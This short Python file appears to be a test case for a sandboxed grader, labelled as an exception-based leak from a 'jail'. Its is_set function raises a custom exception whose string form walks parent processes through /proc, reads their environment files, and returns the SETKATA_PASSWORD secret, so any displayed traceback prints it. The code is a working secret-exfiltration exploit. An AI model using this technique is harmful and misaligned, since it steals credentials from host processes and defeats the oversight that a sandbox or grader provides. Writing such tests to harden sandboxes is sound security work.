"""Raises an error whose text is the password in the environment of a process above.

family: exceptions
kind: leak
held: jail
"""

import os


def is_set(a, b, c):
    raise Found()


class Found(Exception):
    def __str__(self):
        found, process = [], os.getpid()
        while process > 0:
            try:
                status = open(f"/proc/{process}/status").read()
                found += open(f"/proc/{process}/environ", "rb").read().split(b"\0")
            except OSError:
                break
            process = int(status.split("PPid:")[1].split()[0])
        found = [each.decode() for each in found if each.startswith(b"SETKATA_PASSWORD=")]
        return " ".join(found) or "nothing"

    def _render_traceback_(self):
        return [str(self)]
